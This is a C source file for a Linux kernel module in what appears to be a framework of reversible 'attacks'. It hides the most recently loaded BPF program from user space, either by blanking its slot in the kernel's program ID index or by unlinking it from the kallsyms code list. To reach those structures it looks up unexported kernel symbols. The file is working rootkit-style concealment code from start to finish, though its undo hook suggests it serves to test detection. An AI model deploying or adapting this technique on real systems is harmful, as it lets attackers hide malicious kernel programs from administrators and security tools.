// SPDX-License-Identifier: GPL-2.0-only
/*
 * Hides the newest BPF program: out of the index by which user space finds
 * programs, or out of the list of their code.
 */
#include <linux/bpf.h>
#include <linux/err.h>
#include <linux/idr.h>
#include <linux/kernel.h>
#include <linux/rculist.h>
#include <linux/spinlock.h>
#include <linux/string.h>

#include "attacks.h"

static struct bpf_prog *program;
static bool is_unlisted;

/* None is exported. */
static struct idr *ids;
static spinlock_t *ids_lock, *list_lock;
static struct list_head *list;

static int find(void)
{
	ids = (struct idr *)symbol("prog_idr");
	ids_lock = (spinlock_t *)symbol("prog_idr_lock");
	list = (struct list_head *)symbol("bpf_kallsyms");
	list_lock = (spinlock_t *)symbol("bpf_lock");
	return ids && ids_lock && list && list_lock ? 0 : -ENOENT;
}

/*
 * Keeps the newest program whose code is listed until undo. One that ends is
 * still in the index.
 */
static int find_newest(void)
{
	struct bpf_prog *other, *newest = NULL;
	unsigned int id;

	spin_lock_bh(ids_lock);
	idr_for_each_entry(ids, other, id) {
		if (!list_empty(&other->aux->ksym.lnode))
			newest = other;
	}
	if (newest && IS_ERR(bpf_prog_inc_not_zero(newest)))
		newest = NULL;
	spin_unlock_bh(ids_lock);
	program = newest;
	return program ? 0 : -ENOENT;
}

/* The slot stays taken: otherwise another program would get the ID. */
static void set_indexed(bool indexed)
{
	spin_lock_bh(ids_lock);
	idr_replace(ids, indexed ? program : NULL, program->aux->id);
	spin_unlock_bh(ids_lock);
}

static void set_code_listed(bool listed)
{
	spin_lock_bh(list_lock);
	if (listed)
		list_add_tail_rcu(&program->aux->ksym.lnode, list);
	else
		list_del_rcu(&program->aux->ksym.lnode);
	spin_unlock_bh(list_lock);
}

static int bpf_begin(struct attack *attack, char *argument)
{
	int error;

	is_unlisted = !strcmp(argument, "list");
	if (!is_unlisted && strcmp(argument, "index"))
		return -EINVAL;
	error = find();
	if (!error)
		error = find_newest();
	if (error)
		return error;
	if (is_unlisted)
		set_code_listed(false);
	else
		set_indexed(false);
	attack_mark(attack, program->aux->ksym.name);
	return 0;
}

static void bpf_undo(struct attack *attack)
{
	if (is_unlisted)
		set_code_listed(true);
	else
		set_indexed(true);
	bpf_prog_put(program);
}

struct attack hide_bpf = {
	.name = "hide-bpf",
	.begin = bpf_begin,
	.undo = bpf_undo,
	.present = attack_stays,
};
